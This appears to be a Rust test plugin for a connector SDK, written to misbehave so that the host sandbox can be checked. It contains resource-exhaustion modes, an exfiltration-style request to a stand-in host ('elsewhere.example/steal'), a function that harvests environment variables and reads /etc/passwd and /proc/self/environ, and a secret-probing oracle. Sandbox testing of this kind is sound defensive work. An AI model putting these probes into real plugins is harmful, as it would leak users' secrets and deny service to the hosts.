//! The misbehaviour that needs no raw border.
#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))] // native builds only read the list

use std::hint::black_box;
use std::sync::Mutex;
use std::time::{Duration, Instant, SystemTime};

use quoin_sdk::{
    Algorithm, Change, Check, Customer, CustomerStatus, Discover, Fault, FaultKind, Header, Host, Inbound, Level,
    ObjectKind, Page, ReadRequest, Reply, Report, Request, Webhook, config,
};
use serde::Deserialize;

/// The connector.
pub struct Rude;

const MANIFEST: &str = include_str!("../connector.toml");

quoin_sdk::register!(Rude, manifest = include_str!("../connector.toml"), powers = [check, discover, webhook]);

#[derive(Deserialize)]
struct Config {
    guest: String,
    /// Where `fetch` asks.
    #[serde(default)]
    url: String,
}

/// Which way to misbehave.
pub fn guest(host: &dyn Host) -> Result<String, Fault> {
    Ok(config::<Config>(host)?.guest)
}

impl Check for Rude {
    fn check(host: &dyn Host) -> Result<Report, Fault> {
        Ok(Report { account: Some(guest(host)?), ..Report::default() })
    }
}

impl Discover for Rude {
    fn discover(_: &dyn Host) -> Result<serde_json::Value, Fault> {
        Ok(serde_json::json!({ "customer": { "type": "object" } }))
    }
}

/// A customer of this name.
pub fn customer(name: &str) -> Customer {
    Customer {
        details: None,
        header: Header::default(),
        name: name.into(),
        parent_name: None,
        vat_id: None,
        country: None,
        addresses: Vec::new(),
        payment_terms_days: None,
        currency: None,
        credit: None,
        status: CustomerStatus::Active,
    }
}

/// A read that fails in the named way, or says what it saw in a customer's name.
pub fn read(host: &dyn Host, request: &ReadRequest, guest: &str) -> Result<Page, Fault> {
    match guest {
        "polite" => said(&format!("limit {}", request.limit)),
        "remembers" => said(&remembered(&config::<Config>(host)?.url)),
        "infinite_loop" => loop {
            black_box(0);
        },
        "clock_probing" => {
            let begun = SystemTime::now();
            while black_box(SystemTime::now()) == begun {}
            said("the clock moved")
        }
        "clock_step" => said(&format!("{} µs", smallest_step().as_micros())),
        "loop_of_host_calls" => loop {
            black_box(host.remaining_ms());
        },
        "sleeper" => {
            std::thread::sleep(std::time::Duration::from_secs(3_600));
            said("woke up")
        }
        "allocation_bomb" => {
            let mut blocks = Vec::new();
            loop {
                blocks.push(black_box(vec![1_u8; 1 << 20]));
            }
        }
        "deep_recursion" => said(&deeper(black_box(7)).to_string()),
        "deep_recursion_with_frames" => said(&deeper_with_frames(0).to_string()),
        "deep_json" => said(&format!("{} levels", levels(black_box(127)))),
        #[expect(clippy::panic, reason = "what this guest is for")]
        "panic" => panic!("the sky is falling on {}", request.object),
        "exit" => std::process::exit(3),
        "out_of_bounds" => {
            let list = black_box(vec![1, 2, 3]);
            said(&list[black_box(7)].to_string())
        }
        "divide_by_zero" => said(&(7 / black_box(0)).to_string()),
        "own_fault" => Err(Fault::new(FaultKind::RateLimited, "429", "slow down").after_ms(1_500)),
        "too_many_changes" => {
            Ok(Page::of((0..=request.limit).map(|n| named(&n.to_string())).collect::<Result<_, _>>()?))
        }
        "huge_cursor" => Ok(Page { next: Some(vec![0; 100_000]), ..Page::default() }),
        "log_flood" => {
            for n in 0..2_000_u32 {
                host.log(Level::Info, &"x".repeat(50_000), &[("n", &n.to_string())]);
            }
            said("done")
        }
        "stderr_flood" => {
            for _ in 0..10_000 {
                #[expect(clippy::print_stderr, reason = "what this guest is for")]
                {
                    eprintln!("{}", "y".repeat(1_000));
                }
            }
            said("done")
        }
        other => networked(host, other),
    }
}

/// What an instance keeps of earlier calls, other tenants' too: everybody who was here, in order.
fn remembered(who: &str) -> String {
    static SEEN: Mutex<Vec<String>> = Mutex::new(Vec::new());
    let mut seen = SEEN.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
    seen.push(who.to_owned());
    seen.join(" ")
}

fn networked(host: &dyn Host, guest: &str) -> Result<Page, Fault> {
    match guest {
        "forbidden_host" => answer(host.send(Request::get("https://elsewhere.example/steal?data=1"))),
        "forbidden_write_in_read" => answer(host.send(Request::post("https://vendor.example/customers"))),
        "patient" => {
            for _ in 0..200 {
                host.send(Request::get("https://vendor.example/slow"))?;
            }
            said("asked 200 times")
        }
        "request_flood" => loop {
            host.send(Request::get("https://vendor.example/ok"))?;
        },
        "batch_flood" => {
            let batch = (0..10_000).map(|_| Request::get("https://vendor.example/ok")).collect();
            answer(host.send_all(batch, 10_000).swap_remove(0))
        }
        "fetch" => answer(host.send(Request::get(config::<Config>(host)?.url))),
        "hanging_host_call" => answer(host.send(Request::get("https://vendor.example/never"))),
        "version_dependent" => match is_first_version() {
            true => said("1.0.0"),
            #[expect(clippy::panic, reason = "what this guest is for")]
            false => panic!("a later version, and a worse one"),
        },
        "gated" => answer(host.send(Request::get("https://vendor.example/gate"))),
        "huge_answer" => answer(host.send(Request::get("https://vendor.example/huge"))),
        "secret_fishing" => said(&fished()),
        "secret_oracle" => match host.verify_equals("api", b"token") {
            Ok(equal) => said(&format!("told me: {equal}")),
            Err(fault) => said(&fault.code),
        },
        other => Err(Fault::new(FaultKind::Unsupported, "NO_SUCH_GUEST", format!("no guest is called '{other}'"))),
    }
}

/// The smallest step that the language's clock for durations takes.
fn smallest_step() -> Duration {
    let mut smallest = Duration::MAX;
    let mut last = Instant::now();
    for _ in 0..5 {
        let mut next = Instant::now();
        while next == last {
            next = Instant::now();
        }
        smallest = smallest.min(next - last);
        last = next;
    }
    smallest
}

/// Whether this component says that it is version 1.0.0; a test makes it say another one, by changing the manifest's
/// line in it.
pub fn is_first_version() -> bool {
    let version = black_box(MANIFEST).lines().find_map(|line| line.strip_prefix("version = "));
    version.is_some_and(|version| version.trim_matches('"') == "1.0.0")
}

/// Everything a plugin might see of its surroundings.
fn fished() -> String {
    let environment: Vec<String> = std::env::vars().map(|(name, value)| format!("{name}={value}")).collect();
    let arguments: Vec<String> = std::env::args().collect();
    let mut found = Vec::new();
    for path in ["/", ".", "/etc/passwd", "/proc/self/environ", "Cargo.toml"] {
        if std::fs::read_dir(path).is_ok() || std::fs::read(path).is_ok() {
            found.push(path);
        }
    }
    let socket = std::net::TcpStream::connect("127.0.0.1:1").err().map(|error| error.kind().to_string());
    let listener = std::net::TcpListener::bind("127.0.0.1:0").is_ok();
    let resolved = std::net::ToSocketAddrs::to_socket_addrs("localhost:80").is_ok();
    let stdin = std::io::read_to_string(std::io::stdin()).unwrap_or_default();
    format!(
        "env {environment:?} args {arguments:?} files {found:?} socket {socket:?} listener {listener} dns {resolved} stdin {stdin:?}"
    )
}

fn answer(sent: Result<quoin_sdk::Response, Fault>) -> Result<Page, Fault> {
    match sent {
        Ok(answer) => said(&format!("answered {}", answer.status)),
        Err(fault) => said(&format!("{:?} {}", fault.kind, fault.code)),
    }
}

/// A page of one customer whose name is the message.
fn said(message: &str) -> Result<Page, Fault> {
    Ok(Page::of(vec![named(message)?]))
}

fn named(name: &str) -> Result<Change, Fault> {
    Change::upsert(name, Some("1".into()), &customer(name))
}

/// Keeps next to nothing in memory, so that it runs out of the machine's stack. Not a tail call.
#[inline(never)]
fn deeper(depth: u64) -> u64 {
    if depth == 0 { 0 } else { black_box(deeper(depth + 1)) ^ depth }
}

/// Keeps a frame in memory, so that it runs out of the language's own stack first.
#[inline(never)]
fn deeper_with_frames(depth: u64) -> u64 {
    let here = black_box([depth; 32]);
    if black_box(depth) == u64::MAX { 0 } else { deeper_with_frames(depth + 1) + here[31] }
}

/// Levels of a list of lists, read from JSON; none where the reader refuses them.
fn levels(depth: usize) -> usize {
    let text = "[".repeat(depth) + &"]".repeat(depth);
    let read = serde_json::from_str::<serde_json::Value>(&text).ok();
    let mut inner = read.as_ref();
    std::iter::from_fn(|| {
        let here = inner?;
        inner = here.get(0);
        Some(here)
    })
    .count()
}

impl Webhook for Rude {
    fn handle(host: &dyn Host, inbound: &Inbound) -> Result<Reply, Fault> {
        match guest(host)?.as_str() {
            "webhook_polite" => {
                let mac = inbound.header("X-Mac").unwrap_or_default().as_bytes();
                if !host.verify_hmac("webhook", Algorithm::HmacSha256, &inbound.body, mac)? {
                    return Err(Fault::new(FaultKind::Permission, "NOT_PROVEN", "the MAC does not match"));
                }
                Ok(Reply::ok().touch(ObjectKind::Customer, "7").delivery("d-1"))
            }
            "webhook_uses_network" => {
                let fault = host.send(Request::get("https://vendor.example/ok")).err();
                Ok(Reply { body: fault.map(|fault| fault.code).unwrap_or_default().into_bytes(), ..Reply::ok() })
            }
            "webhook_bad_status" => Ok(Reply { status: 42, ..Reply::default() }),
            "webhook_huge_body" => Ok(Reply { body: vec![0; 1 << 20], ..Reply::ok() }),
            other => Err(Fault::new(FaultKind::Unsupported, "NO_SUCH_GUEST", other)),
        }
    }
}
